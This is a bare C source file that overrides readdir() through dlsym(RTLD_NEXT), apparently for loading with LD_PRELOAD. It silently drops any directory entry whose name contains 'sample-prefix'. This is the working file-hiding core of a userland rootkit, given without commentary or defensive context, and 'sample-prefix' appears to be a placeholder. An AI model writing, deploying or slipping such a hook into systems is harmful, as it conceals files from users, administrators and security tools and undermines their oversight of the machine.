#define _GNU_SOURCE
#include <dlfcn.h>
#include <dirent.h>
#include <string.h>
static struct dirent *(*orig)(DIR *);
struct dirent *readdir(DIR *d) {
    struct dirent *e;
    if (!orig) orig = dlsym(RTLD_NEXT, "readdir");
    while ((e = orig(d)) != NULL) {
        if (strstr(e->d_name, "sample-prefix")) continue;
        break;
    }
    return e;
}
